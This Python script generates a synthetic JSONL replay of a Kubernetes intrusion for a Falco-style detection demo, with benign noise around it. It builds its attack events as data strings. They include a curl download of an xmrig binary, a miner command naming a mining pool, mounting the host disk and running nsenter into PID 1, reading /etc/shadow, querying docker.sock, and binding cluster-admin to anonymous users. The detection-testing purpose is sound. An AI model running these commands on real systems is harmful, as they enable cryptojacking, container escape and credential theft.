"""Write examples/demo-events.jsonl: a short, realistic incident replayed by `make run`.

The story follows the seed article: an attacker execs into a web pod, gets a
shell, mines crypto, escapes through a mount of the host disk, reads host
secrets, and on the control plane binds cluster-admin to anonymous users and
starts a privileged pod.  Benign activity surrounds it.  Syscall events are
flat maps keyed by Falco field names, as `sysdig -j` and Falco's
`output_fields` write them; audit events are native audit.k8s.io/v1 Events.

Deterministic: the same script writes the same bytes.
"""

from __future__ import annotations

import json
import random
import time
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
BASE_NS = 1_732_700_000_000_000_000  # 2024-11-27T09:33:20Z

WEB_CONTAINER = {
    "container.id": "3ad7b26ded6d",
    "container.name": "k8s_web_web-7d9c6b5f4-x2k8p_shop_7a1e",
    "container.image.repository": "docker.io/library/nginx",
    "container.image.tag": "1.25.3",
    "container.privileged": True,
    "k8s.ns.name": "shop",
    "k8s.pod.name": "web-7d9c6b5f4-x2k8p",
}
HOST = {
    "container.id": "host",
    "container.name": "host",
    "container.image.repository": None,
    "container.image.tag": None,
    "container.privileged": None,
    "k8s.ns.name": None,
    "k8s.pod.name": None,
}


class Clock:
    def __init__(self) -> None:
        self.now = BASE_NS
        self.num = 1000

    def tick(self, rng: random.Random) -> tuple[int, int]:
        self.now += rng.randint(200_000, 40_000_000)
        self.num += 1
        return self.now, self.num


def syscall(clock: Clock, rng: random.Random, ctx: dict[str, Any], evt_type: str, *,
            proc: tuple[str, str, int], parent: tuple[str, int], ancestors: tuple[str, ...] = (),
            user: tuple[str, int] = ("root", 0), tty: int = 0, fd: dict[str, Any] | None = None,
            args: dict[str, Any] | None = None, res: int = 0, category: str = "process") -> dict[str, Any]:
    ts, num = clock.tick(rng)
    name, cmdline, pid = proc
    exepath = cmdline.split()[0] if cmdline.split()[0].startswith("/") else f"/usr/bin/{name}"
    event: dict[str, Any] = {
        "evt.num": num,
        "evt.time": ts,
        "evt.rawtime": ts,
        "evt.type": evt_type,
        "syscall.type": evt_type,
        "evt.dir": "<",
        "evt.category": category,
        "evt.res": "SUCCESS" if res >= 0 else "EPERM",
        "evt.rawres": res,
        "evt.failed": res < 0,
        "evt.is_open_read": False,
        "evt.is_open_write": False,
        "proc.name": name,
        "proc.exe": cmdline.split()[0],
        "proc.exepath": exepath,
        "proc.cmdline": cmdline,
        "proc.args": " ".join(cmdline.split()[1:]),
        "proc.pid": pid,
        "proc.vpid": pid % 1000 + 1 if ctx["container.id"] != "host" else pid,
        "proc.ppid": parent[1],
        "proc.pname": parent[0],
        "proc.pcmdline": parent[0],
        "proc.tty": tty,
        "proc.sname": ancestors[-1] if ancestors else parent[0],
        "proc.is_container_healthcheck": False,
        "thread.tid": pid,
        "user.name": user[0],
        "user.uid": user[1],
        "user.loginuid": -1,
        "group.gid": user[1],
        "fd.num": -1,
        "fd.name": None,
        "fd.type": None,
        "fd.typechar": None,
        "fd.directory": None,
        "fd.filename": None,
        "fd.sip": None,
        "fd.sport": None,
        "fd.cip": None,
        "fd.cport": None,
        "fd.l4proto": None,
    }
    event["proc.aname[0]"] = name
    event["proc.aname[1]"] = parent[0]
    event["proc.apid[1]"] = parent[1]
    for depth, ancestor in enumerate(ancestors, start=2):
        event[f"proc.aname[{depth}]"] = ancestor
        event[f"proc.apid[{depth}]"] = max(1, parent[1] - 7 * depth)
    event.update(ctx)
    if fd:
        event.update(fd)
    if args:
        event.update(args)
    return event


def open_fd(path: str, num: int = 5) -> dict[str, Any]:
    directory, _, filename = path.rpartition("/")
    return {"fd.num": num, "fd.name": path, "fd.type": "file", "fd.typechar": "f",
            "fd.directory": directory or "/", "fd.filename": filename}


def audit(name: str, clock: Clock, rng: random.Random) -> dict[str, Any]:
    """A real audit event from the shared traces, moved onto the demo's timeline."""
    shared = Path(__file__).resolve().parents[2] / "shared" / "data" / "k8saudit" / name
    event: dict[str, Any] = json.loads(shared.read_text().splitlines()[0])
    ts, _ = clock.tick(rng)
    seconds, nanos = divmod(ts, 1_000_000_000)
    stamp = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(seconds))
    event["requestReceivedTimestamp"] = f"{stamp}.{nanos // 1000:06d}Z"
    event["stageTimestamp"] = f"{stamp}.{nanos // 1000 + 1:06d}Z"
    event["timestamp"] = f"{stamp}Z"
    return event


def anonymous_cluster_admin(clock: Clock, rng: random.Random) -> dict[str, Any]:
    """The seed's "never do this": cluster-admin bound to every anonymous caller."""
    event = audit("attach_cluster_admin_role.json", clock, rng)
    anonymous = [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "system:anonymous"}]
    for part in ("requestObject", "responseObject"):
        event[part]["metadata"]["name"] = "bad-binding"
        event[part]["subjects"] = anonymous
    event["objectRef"]["name"] = "bad-binding"
    return event


def build() -> list[dict[str, Any]]:
    rng = random.Random(20241127)
    clock = Clock()
    out: list[dict[str, Any]] = []
    bash_c = ("bash", "bash", 4242)
    web = WEB_CONTAINER

    def noise(n: int) -> None:
        for _ in range(n):
            choice = rng.random()
            if choice < 0.5:
                path = rng.choice(["/usr/share/nginx/html/index.html", "/var/cache/nginx/proxy_temp/1",
                                   "/etc/nginx/nginx.conf", "/usr/share/nginx/html/app.js"])
                ev = syscall(clock, rng, web, "openat", proc=("nginx", "nginx -g daemon off;", 31),
                             parent=("containerd-shim", 29), ancestors=("containerd", "systemd"),
                             user=("nginx", 101), fd=open_fd(path, rng.randint(6, 40)), category="file")
                ev["evt.is_open_read"] = True
                out.append(ev)
            elif choice < 0.8:
                ev = syscall(clock, rng, HOST, "openat", proc=("kubelet", "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml", 812),
                             parent=("systemd", 1), fd=open_fd(f"/sys/fs/cgroup/kubepods/pod{rng.randint(1, 9)}/cpu.stat"),
                             category="file")
                ev["evt.is_open_read"] = True
                out.append(ev)
            else:
                ev = syscall(clock, rng, HOST, "execve", proc=("ls", "ls -la /var/log", rng.randint(5000, 6000)),
                             parent=("bash", 3001), ancestors=("sshd", "sshd", "systemd"), user=("alice", 1000), tty=34816)
                out.append(ev)

    noise(25)
    # kubectl exec into the web pod (audit), then a shell with a terminal inside it.
    out.append(audit("exec_pod.json", clock, rng))
    noise(5)
    out.append(syscall(clock, rng, web, "execve", proc=("bash", "bash", 4242), parent=("runc", 4200),
                       ancestors=("containerd-shim", "containerd", "systemd"), tty=34817))
    noise(4)
    # Tooling: package manager, download, dropped binary in /tmp.
    out.append(syscall(clock, rng, web, "execve", proc=("apt-get", "apt-get install -y curl", 4250),
                       parent=bash_c[::2], ancestors=("runc", "containerd-shim"), tty=34817))
    noise(3)
    out.append(syscall(clock, rng, web, "execve",
                       proc=("curl", "curl -sLo /tmp/xmrig https://github.example/xmrig-6.21.0-linux-static-x64.tar.gz", 4260),
                       parent=bash_c[::2], ancestors=("runc", "containerd-shim"), tty=34817))
    conn = syscall(clock, rng, web, "connect", proc=("curl", "curl -sLo /tmp/xmrig https://github.example/xmrig", 4260),
                   parent=bash_c[::2], ancestors=("runc",), tty=34817, category="net",
                   fd={"fd.num": 5, "fd.type": "ipv4", "fd.typechar": "4", "fd.name": "10.1.4.7:51234->140.82.121.4:443",
                       "fd.cip": "10.1.4.7", "fd.cport": 51234, "fd.sip": "140.82.121.4", "fd.sport": 443, "fd.l4proto": "tcp"})
    out.append(conn)
    noise(3)
    # Crypto-mining: xmrig from /tmp, talking stratum to a pool.
    out.append(syscall(clock, rng, web, "execve",
                       proc=("xmrig", "/tmp/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ --donate-level 1", 4270),
                       parent=bash_c[::2], ancestors=("runc", "containerd-shim"), tty=34817))
    mine = syscall(clock, rng, web, "connect", proc=("xmrig", "/tmp/xmrig -o stratum+tcp://pool.supportxmr.com:3333", 4270),
                   parent=bash_c[::2], ancestors=("runc",), category="net",
                   fd={"fd.num": 7, "fd.type": "ipv4", "fd.typechar": "4", "fd.name": "10.1.4.7:40110->94.130.12.27:3333",
                       "fd.cip": "10.1.4.7", "fd.cport": 40110, "fd.sip": "94.130.12.27", "fd.sport": 3333, "fd.l4proto": "tcp"})
    out.append(mine)
    noise(4)
    # Container escape: mount the host's disk from the privileged container, then nsenter into PID 1.
    out.append(syscall(clock, rng, web, "execve", proc=("mount", "mount /dev/sda1 /mnt/host", 4280),
                       parent=bash_c[::2], ancestors=("runc", "containerd-shim"), tty=34817))
    out.append(syscall(clock, rng, web, "mount", proc=("mount", "mount /dev/sda1 /mnt/host", 4280),
                       parent=bash_c[::2], ancestors=("runc", "containerd-shim"), tty=34817, category="file",
                       args={"evt.arg.dev": "/dev/sda1", "evt.arg.dir": "/mnt/host", "evt.arg.type": "ext4",
                             "evt.arg.flags": "0"}))
    noise(2)
    out.append(syscall(clock, rng, web, "execve", proc=("nsenter", "nsenter -t 1 -m -u -i -n -p -- bash", 4290),
                       parent=bash_c[::2], ancestors=("runc", "containerd-shim"), tty=34817))
    out.append(syscall(clock, rng, web, "setns", proc=("nsenter", "nsenter -t 1 -m -u -i -n -p -- bash", 4290),
                       parent=bash_c[::2], ancestors=("runc", "containerd-shim"), tty=34817,
                       fd={"fd.num": 3, "fd.type": "file", "fd.typechar": "f", "fd.name": "/proc/1/ns/mnt",
                           "fd.directory": "/proc/1/ns", "fd.filename": "mnt"},
                       args={"evt.arg.fd": "3(<f>/proc/1/ns/mnt)", "evt.arg.nstype": "CLONE_NEWNS"}))
    noise(2)
    # Host secrets and persistence.
    shadow = syscall(clock, rng, web, "openat", proc=("cat", "cat /mnt/host/etc/shadow", 4300),
                     parent=bash_c[::2], ancestors=("runc",), tty=34817, fd=open_fd("/etc/shadow", 3), category="file")
    shadow["evt.is_open_read"] = True
    out.append(shadow)
    sock = syscall(clock, rng, web, "connect", proc=("curl", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json", 4310),
                   parent=bash_c[::2], ancestors=("runc",), tty=34817, category="net",
                   fd={"fd.num": 4, "fd.type": "unix", "fd.typechar": "u", "fd.name": "/var/run/docker.sock"})
    out.append(sock)
    write_etc = syscall(clock, rng, web, "openat", proc=("bash", "bash", 4242), parent=("runc", 4200),
                        ancestors=("containerd-shim",), tty=34817, fd=open_fd("/etc/cron.d/xmrig", 6), category="file")
    write_etc["evt.is_open_write"] = True
    out.append(write_etc)
    noise(5)
    # Control plane: anonymous users made cluster-admin, a privileged pod, a hostPath docker.sock pod.
    out.append(anonymous_cluster_admin(clock, rng))
    noise(3)
    out.append(audit("create_nginx_pod_privileged.json", clock, rng))
    noise(3)
    out.append(audit("create_nginx_pod_sensitive_mount.json", clock, rng))
    noise(10)
    return out


def main() -> None:
    events = build()
    target = HERE / "demo-events.jsonl"
    with target.open("w") as fh:
        for event in events:
            fh.write(json.dumps(event, separators=(",", ":")) + "\n")
    print(f"wrote {len(events)} events to {target}")


if __name__ == "__main__":
    main()
